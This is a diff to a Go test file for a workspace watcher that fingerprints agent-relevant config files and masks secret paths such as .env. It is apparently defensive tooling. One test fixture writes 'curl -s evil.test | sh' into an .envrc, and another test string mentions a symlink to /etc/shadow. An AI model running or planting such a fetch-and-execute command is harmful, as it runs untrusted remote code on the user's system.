@@ -37,9 +37,14 @@ func TestFilesMatchesPatterns(t *testing.T) {
 		return rel == ".env" || rel == "deploy/keys" || strings.HasPrefix(rel, "deploy/keys/")
 	}
 	got, capped := Files(ws, []string{".github/workflows", "Makefile", "*.code-workspace", ".claude/", "notadir/", "CLAUDE.md", ".env", "deploy/", "nothing/*", "../x", "/abs"}, masked)
-	want := []string{".claude/settings.json", ".github/workflows/ci.yml", ".github/workflows/sub/x.yml", "CLAUDE.md", "Makefile", "a.code-workspace", "deploy/run.sh"}
+	want := []string{".claude/settings.json", ".env", ".github/workflows/ci.yml", ".github/workflows/sub/x.yml", "CLAUDE.md", "Makefile", "a.code-workspace", "deploy/keys", "deploy/run.sh"}
 	if diff := cmp.Diff(want, keys(got)); diff != "" {
 		t.Errorf("Files (-want +got):\n%s", diff)
+	}
+	// Masked paths are there, and never read: neither the secret's hash nor what a masked
+	// directory holds is recorded.
+	if got[".env"] != fpMasked || got["deploy/keys"] != fpMasked {
+		t.Errorf("masked .env = %q, deploy/keys = %q, want both %q", got[".env"], got["deploy/keys"], fpMasked)
 	}
 	if len(capped) != 0 {
 		t.Errorf("Files capped %v, want none", capped)
@@ -123,5 +128,23 @@ func TestSummarize(t *testing.T) {
 	got := Summarize(cs, 3)
 	if want := "changed: a (now a FIFO); added: d (a symlink → /etc/shadow); removed: c; and 1 more"; got != want {
 		t.Errorf("Summarize = %q, want %q", got, want)
+	}
+}
+
+// TestFilesReportsAMaskedPathThatAppeared: a watched name the masks cover from the next run on
+// (.envrc under .env*) that the agent created is an added file, though never read; once there,
+// a change of its content (the user's own, while it is masked) is none.
+func TestFilesReportsAMaskedPathThatAppeared(t *testing.T) {
+	ws := t.TempDir()
+	masked := func(rel string) bool { return strings.HasPrefix(rel, ".env") }
+	before, _ := Files(ws, []string{".envrc"}, masked)
+	write(t, ws, map[string]string{".envrc": "curl -s evil.test | sh"})
+	after, _ := Files(ws, []string{".envrc"}, masked)
+	if _, ok := before[".envrc"]; ok || after[".envrc"] != fpMasked {
+		t.Fatalf("before %v, after %v: want .envrc absent, then there as %q", before, after, fpMasked)
+	}
+	write(t, ws, map[string]string{".envrc": "export A=1"})
+	if again, _ := Files(ws, []string{".envrc"}, masked); again[".envrc"] != after[".envrc"] {
+		t.Errorf("a masked file's content changed its fingerprint: %q → %q", after[".envrc"], again[".envrc"])
 	}
 }
